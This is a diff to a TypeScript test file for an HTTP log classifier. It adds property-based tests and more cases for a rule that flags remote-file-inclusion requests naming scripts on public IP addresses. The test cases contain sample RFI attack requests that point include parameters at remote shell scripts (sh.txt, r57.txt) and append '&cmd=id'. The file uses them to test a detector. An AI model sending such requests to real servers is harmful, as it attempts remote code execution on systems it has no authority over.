@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import fc from 'fast-check';
 import { BUILTIN_RULES, CATEGORY_INFO } from '../../../lambdas/core/rules/builtin.js';
 import { Classifier, MAX_DECODE_PASSES, MAX_DECOY_EXTENSIONS, MAX_NAME_PARTS, MAX_THRESHOLD_SECONDS, decodeFully } from '../../../lambdas/core/rules/engine.js';
 import { EXPLOITED_PRODUCTS } from '../../../lambdas/core/rules/exploited-products.js';
@@ -200,29 +201,66 @@ describe('remote file inclusion on any parameter', () => {
     assert.deepEqual(fileInclusion('GET /index.php?page=https://bad.example.net/a HTTP/1.1'), ['remote-file-inclusion']);
   });
 
-  it('a known include parameter naming a script on a bare IP address is an exploit on its own (alerts at once)', () => {
+  it('a known include parameter naming a script on a public IP address is an exploit on its own (alerts at once)', () => {
     const at = (request: string) => classifier.classify(record({ request, status: 200 }));
     for (const request of [
       'GET /index.php?page=http://203.0.113.50/sh.txt? HTTP/1.1',
       'GET /index.php?file=ftp://198.51.100.9:21/r57.txt HTTP/1.1',
-      'GET /main.php?include=http%3A%2F%2F192.0.2.44%2Fbot.txt HTTP/1.1',
+      'GET /main.php?include=http%3A%2F%2F192.0.2.44%2Fbot.txt%3F HTTP/1.1',
       'GET /index.php?inc=http://192.0.2.44/x.php%00 HTTP/1.1',
+      'GET /index.php?page=http://x@203.0.113.50/sh.txt? HTTP/1.1',
+      'GET /index.php?page=http://203.0.113.50?? HTTP/1.1',
+      'GET /index.php?page[]=HTTP://203.0.113.50/SH.TXT?&cmd=id HTTP/1.1',
     ]) {
       const c = at(request);
-      assert.deepEqual(
-        c.labels.map((l) => l.rule.id),
-        ['remote-file-inclusion-ip'],
-        request,
+      assert.ok(
+        c.labels.some((l) => l.rule.id === 'remote-file-inclusion-ip'),
+        `${request}: ${c.labels.map((l) => l.rule.id)}`,
       );
       assert.equal(c.immediate?.rule.id, 'remote-file-inclusion-ip', request);
     }
     for (const request of [
       'GET /index.php?page=https://www.example.com/about HTTP/1.1',
-      'GET /preview?url=http://203.0.113.5/ HTTP/1.1',
+      'GET /index.php?page=http://203.0.113.5/ HTTP/1.1',
       'GET /index.php?page=http://203.0.113.5.example.com/a.txt? HTTP/1.1',
-      'GET /pdfjs/web/viewer.html?file=http://192.168.1.10/docs/report.pdf HTTP/1.1',
+      'GET /pdfjs/web/viewer.html?file=http://203.0.113.10/docs/report.pdf HTTP/1.1',
+      'GET /logs.php?file=http://10.0.0.5/logs/app.txt? HTTP/1.1',
+      'GET /viewer?doc=http://192.168.1.20/README.txt? HTTP/1.1',
+      'GET /viewer?doc=http://203.0.113.20/README.txt HTTP/1.1',
     ]) {
       assert.equal(at(request).immediate, null, request);
+    }
+  });
+
+  it('an include from any public IPv4 address alerts at once, from a private, loopback or link-local one never', () => {
+    const isPublic = (a: number, b: number) =>
+      !(a === 0 || a === 10 || a === 127 || a >= 224 || (a === 169 && b === 254) || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168));
+    const octet = fc.integer({ min: 0, max: 255 });
+    fc.assert(
+      fc.property(octet, octet, octet, octet, (a, b, c, d) => {
+        const r = classifier.classify(record({ request: `GET /index.php?page=http://${a}.${b}.${c}.${d}/x.txt? HTTP/1.1`, status: 404 }));
+        assert.equal(r.immediate?.rule.id === 'remote-file-inclusion-ip', isPublic(a, b), `${a}.${b}.${c}.${d}`);
+      }),
+      { numRuns: 2000 },
+    );
+    for (const [a, b] of [
+      [10, 1],
+      [127, 0],
+      [169, 254],
+      [172, 16],
+      [172, 31],
+      [192, 168],
+      [169, 253],
+      [172, 15],
+      [172, 32],
+      [192, 167],
+      [126, 9],
+      [128, 9],
+      [223, 1],
+      [224, 1],
+    ]) {
+      const r = classifier.classify(record({ request: `GET /index.php?page=http://${a}.${b}.7.7/x.txt? HTTP/1.1`, status: 404 }));
+      assert.equal(r.immediate?.rule.id === 'remote-file-inclusion-ip', isPublic(a as number, b as number), `${a}.${b}.7.7`);
     }
   });
 
